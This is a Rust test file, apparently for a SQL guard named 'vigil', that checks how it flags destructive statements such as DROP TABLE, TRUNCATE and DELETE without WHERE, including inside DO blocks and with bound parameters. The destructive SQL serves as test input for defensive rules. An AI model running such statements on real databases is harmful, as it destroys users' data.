        assert_eq!(matched, *want, "{pattern} ({mode:?}) on {sql}: {got:?}");
    }
}

#[test]
fn verdicts_report_statement_and_opaque_parts() {
    let m = SqlMatcher::new(
        [
            (0, SqlPattern::parse("TRUNCATE").unwrap()),
            (1, SqlPattern::parse("DROP").unwrap()),
        ],
        MatchMode::Restrict,
    );
    let check = |sql: &str| m.check(&analyze(sql).unwrap());
    assert_eq!(
        check("select 1; drop table t"),
        Verdict::Match {
            pattern: 1,
            statement: 1
        }
    );
    assert_eq!(check("select 1"), Verdict::NoMatch);
    assert_eq!(check(""), Verdict::NoMatch);
    assert_eq!(
        check("DO $$ BEGIN DROP TABLE t; END $$"),
        Verdict::Unknown {
            reason: "a DO block runs code vigil cannot see".into()
        }
    );
    // A match wins over an opaque statement elsewhere.
    assert!(matches!(
        check("DO $$ $$; TRUNCATE t"),
        Verdict::Match { pattern: 0, .. }
    ));
    // Without patterns nothing is unknown.
    let empty = SqlMatcher::default();
    assert!(empty.is_empty());
    assert_eq!(empty.check(&analyze("DO $$ $$").unwrap()), Verdict::NoMatch);
}

#[test]
fn the_example_config_patterns_parse() {
    let example: toml::Value =
        toml::from_str(include_str!("../../../examples/vigil.toml")).unwrap();
    let patterns: Vec<&str> = example["rule"]
        .as_array()
        .unwrap()
        .iter()
        .filter_map(|r| r.get("sql")?.as_array())
        .flatten()
        .filter_map(|p| p.as_str())
        .collect();
    assert!(patterns.contains(&"DELETE without WHERE"), "{patterns:?}");
    for p in patterns {
        assert!(SqlPattern::parse(p).is_ok(), "{p}");
    }
}

#[test]
fn bound_values_are_written_in_where_the_parameters_are() {
    use BoundValue::{Null, Opaque, Text};
    let sql =
        "DELETE FROM t WHERE ($1::int IS NULL OR id = $1) AND note <> '$2' /* $2 */ AND x = $2";
    assert_eq!(
        bind_literals(sql, &[Null, Text("it's")]).as_deref(),
        Some("DELETE FROM t WHERE (NULL::int IS NULL OR id = NULL) AND note <> '$2' /* $2 */ AND x = 'it''s'")
    );
    assert_eq!(
        bind_literals(sql, &[Opaque, Text("a")]).as_deref(),
        Some("DELETE FROM t WHERE ($1::int IS NULL OR id = $1) AND note <> '$2' /* $2 */ AND x = 'a'")
    );
    // A parameter without a value: nothing to decide with.
    assert_eq!(bind_literals(sql, &[Null]), None);
    // With NULL the condition spares no row; with a value it is a real condition.
    let cond = "DELETE FROM t WHERE $1::int IS NULL OR id = $1";
    let with = |v| {
        analyze(&bind_literals(cond, &[v]).unwrap())
            .unwrap()
            .statements[0]
            .delete_without_where
    };
    assert!(with(Null));
    assert!(!with(Text("5")));
    assert!(!with(Opaque));
    // Only conditions whose truth may hang on parameters alone are decided again at Bind.
    let decides = |sql: &str| analyze(sql).unwrap().statements[0].params_decide;
    assert!(decides(cond));
    assert!(decides(
        "UPDATE t SET x = 1 WHERE coalesce($1, false) OR id = 2"
    ));
    assert!(decides("DELETE FROM t WHERE NOT ($1 AND id = 1)"));
    assert!(decides("DELETE FROM t WHERE ($1 OR id = 1) IS TRUE"));
    assert!(decides("DELETE FROM t WHERE coalesce($1, id = 1)"));
    assert!(decides(
        "DELETE FROM t WHERE CASE WHEN $1 THEN true ELSE id = 1 END"
    ));
    assert!(!decides("DELETE FROM t WHERE id = $1"));
    assert!(!decides("UPDATE t SET x = x + $1 WHERE id = $2"));
    assert!(!decides("DELETE FROM t WHERE id = $1 AND $2"));
    assert!(!decides("DELETE FROM t WHERE id = 1"));
    assert!(!decides("SELECT * FROM t WHERE $1"));
}
